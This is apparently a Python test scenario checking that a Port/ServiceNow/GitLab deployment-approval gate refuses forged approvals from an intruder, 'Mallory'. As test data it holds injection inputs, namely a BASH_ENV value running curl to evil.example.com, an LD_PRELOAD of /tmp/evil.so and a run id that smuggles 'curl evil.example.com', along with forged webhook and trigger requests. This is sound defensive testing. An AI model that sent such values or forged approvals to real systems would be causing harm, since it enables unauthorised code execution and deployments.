"""Messages that claim a decision which nobody has made."""

from __future__ import annotations

from portctl.story.narration import Telling
from portctl.story.scenarios.common import (
    FLOW_SECONDS,
    PIPELINE,
    ask_with_low_coverage,
    decide_in_servicenow,
    is_deployed,
)
from portctl.story.services import Row

MALLORY = "Mallory (an intruder)"


def forged_webhook(story: Telling) -> None:
    run, change = ask_with_low_coverage(story)
    body = {"sys_id": change["sys_id"], "number": change["number"], "approval": "approved", "external_tags": run}
    story.step(MALLORY, "Port", f"delivers an approval of {change['number']} to the webhook")
    for headers in ({}, {"x-servicenow-secret": "guessed"}):
        said = story.services.anybody("POST", story.services.webhook(), body, headers)
        story.holds(f"Port refuses it {'without a secret' if not headers else 'with a wrong one'}", said.status == 401)
        story.show(said.reason)
    story.settle()
    story.holds(
        "the catalogue is as it was", story.services.entity(change["sys_id"])["properties"]["approval"] == "requested"
    )
    _still_waits(story, run, pipelines=1)
    _carry_on(story, run, change, pipelines=3)


def forged_trigger(story: Telling) -> None:
    run, change = ask_with_low_coverage(story)
    url, token = story.services.trigger()
    decision = {"call": "decision", "deploy_run": run, "run": "r_0000000000000000"}
    story.step(MALLORY, "GitLab", "starts the pipeline with a token of his own making")
    said = story.services.anybody("POST", url, {"token": f"glptt-{'0' * 40}", "ref": "main", "inputs": decision})
    story.holds("GitLab refuses", said.status == 404, said.status)
    genuine = {"token": token, "ref": "main"}
    _start(
        story, url, {**genuine, "inputs": decision}, "with the right token, and claims a decision", "is no open run of"
    )
    deployment = {"call": "deploy", "deploy_run": run, "environment": "Staging"}
    _start(story, url, {**genuine, "inputs": deployment}, "as the gate would, to deploy", "No approver has decided")
    deployment = {"call": "deploy", "deploy_run": run, "environment": "Production"}
    _start(story, url, {**genuine, "inputs": deployment}, "to deploy elsewhere", "asks for something else")
    hostile = {"BASH_ENV": "$(curl evil.example.com)", "LD_PRELOAD": "/tmp/evil.so"}
    _refused(story, url, {**genuine, "inputs": decision, "variables": hostile}, "with variables")
    _refused(story, url, {**genuine, "inputs": {**decision, "BASH_ENV": "x"}}, "with an input that nobody declared")
    _refused(story, url, {**genuine, "inputs": {**decision, "run": "r; curl evil.example.com"}}, "with a hostile id")
    _still_waits(story, run, pipelines=4)
    _carry_on(story, run, change, pipelines=6)


def word_only_patch(story: Telling) -> None:
    run, change = ask_with_low_coverage(story)
    story.step("Somebody", "ServiceNow", f"writes the word approved on {change['number']}")
    place = f"/api/now/table/change_request/{change['sys_id']}"
    said = story.services.snow("PATCH", place, {"approval": "approved"}, person="gate")
    story.holds("ServiceNow stores the word", said.body["result"]["approval"] == "approved", said.reason)
    story.pipelines_ended(2)
    story.settle()
    story.step(PIPELINE, "GitLab", "looks at the change, and deploys nothing", story.stages(story.pipelines()[-1]))
    newest = story.services.runs("approveSnowPipeline")[0]
    story.show_log(newest["id"])
    story.holds("the automation's run has ended with FAILURE", newest["status"] == "FAILURE", newest["status"])
    said_why = any("no approver has decided" in line for line in story.services.log(newest["id"]))
    story.holds("and says why", said_why)
    _still_waits(story, run, pipelines=2)
    story.holds(
        "Port's catalogue shows that approval is still asked for",
        story.services.entity(change["sys_id"])["properties"]["approval"] == "requested",
    )
    _carry_on(story, run, change, pipelines=4)


def _start(story: Telling, url: str, payload: Row, what: str, why: str) -> None:
    story.step(MALLORY, "GitLab", f"starts the pipeline {what}")
    said = story.services.anybody("POST", url, payload)
    story.holds("GitLab starts it", said.status == 201, said.reason)
    story.settle()
    pipeline = said.body
    story.show(story.stages(pipeline))
    traces = [story.services.trace(job["id"]) for job in story.services.jobs(pipeline["id"])]
    story.holds(f"it deploys nothing, and says: {why}", any(why in trace for trace in traces))
    story.holds("nothing was deployed", story.deploy_starts() == 0)


def _refused(story: Telling, url: str, body: Row, what: str) -> None:
    story.step(MALLORY, "GitLab", f"starts the pipeline {what}")
    said = story.services.anybody("POST", url, body)
    story.holds("GitLab refuses, and there is no job", said.status in (400, 422), said.status)
    story.show(said.reason)


def _still_waits(story: Telling, run: str, *, pipelines: int) -> None:
    story.holds("the developer's run still waits", story.services.run(run)["status"] == "IN_PROGRESS")
    story.holds("no other pipeline was started", len(story.pipelines()) == pipelines, len(story.pipelines()))
    story.holds("nothing was deployed", story.deploy_starts() == 0)


def _carry_on(story: Telling, run: str, change: Row, *, pipelines: int) -> None:
    """The real decision still does what it should."""
    story.pass_time(FLOW_SECONDS)
    decide_in_servicenow(story, change, "approved", "this time it is me")
    is_deployed(story, run, pipelines=pipelines)
